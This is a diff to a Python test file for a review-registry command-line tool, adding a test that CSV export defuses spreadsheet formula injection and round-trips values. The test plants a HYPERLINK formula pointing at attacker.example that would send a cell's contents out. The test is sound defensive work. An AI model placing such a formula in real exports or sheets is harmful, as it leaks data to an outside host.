@@ -9,8 +9,9 @@ from typer.testing import CliRunner
 
 from registry.cli import app
 from registry.curation import compare_sheets
-from schemas.extraction import EXTRACTION_SHEETS, columns_for
+from registry.store import Store
 from schemas.protocol import load_protocol
+from schemas.sheet_format import EXTRACTION_SHEETS, columns_for
 
 from .helpers import read
 
@@ -113,3 +114,37 @@ def test_compare_lists_every_disagreement(mini: Path, tmp_path: Path) -> None:
     assert "arms [Alpha2010 | trt] n_randomised: A='20' B='21'" in r.output
     assert "outcomes [Beta2012 | ctl | score | 4 weeks | final] sd: A='2.9' B=None" in r.output
     assert "risk_of_bias [Alpha2010 | RoB1 | blinding_outcome]: row only in B" in r.output
+
+
+def test_export_neutralises_formula_cells_and_round_trips(mini: Path, tmp_path: Path) -> None:
+    # issue 10, item 8 (OWASP CSV injection): a citation that Excel would run as a formula
+    # is exported with a protective quote; numbers, negative ones too, stay numbers; the
+    # exported folder loads back to the same values
+    from .helpers import set_cell
+
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    set_cell(mini / "extraction", "studies", 2, "citation", evil)
+    set_cell(mini / "extraction", "studies", 3, "notes", "-not blinded")
+    set_cell(mini / "extraction", "outcomes", 4, "value_type", "change")
+    set_cell(mini / "extraction", "outcomes", 4, "mean", "-1.5")
+    db = str(tmp_path / "x.duckdb")
+    run = CliRunner().invoke
+    assert run(app, ["--db", db, "load-review", "mini"]).exit_code == 0
+    out = tmp_path / "export"
+    r = run(app, ["--db", db, "extract", "export", str(out), "--review", "mini"])
+    assert r.exit_code == 0, r.output
+    _, studies = read(out / "studies.csv")
+    assert studies[0]["citation"] == "'" + evil
+    assert studies[1]["notes"] == "'-not blinded"
+    _, outcomes = read(out / "outcomes.csv")
+    assert [o["mean"] for o in outcomes if o["value_type"] == "change"] == ["-1.5"]
+    # what the registry derived (an SD from an SE) is the only difference from the folder
+    diffs = {(d.sheet, d.column) for d in compare_sheets(out, mini / "extraction")}
+    assert diffs <= {("outcomes", "sd"), ("outcomes", "derivation")}, diffs
+    db2 = tmp_path / "y.duckdb"
+    r = run(app, ["--db", str(db2), "add-trial", str(out), "--review", "mini"])
+    assert r.exit_code == 0, r.output
+    with Store(db2) as s:
+        back = s.curation_rows("mini", "studies")
+    assert back["citation"].tolist()[0] == evil
+    assert back["notes"].tolist()[1] == "-not blinded"
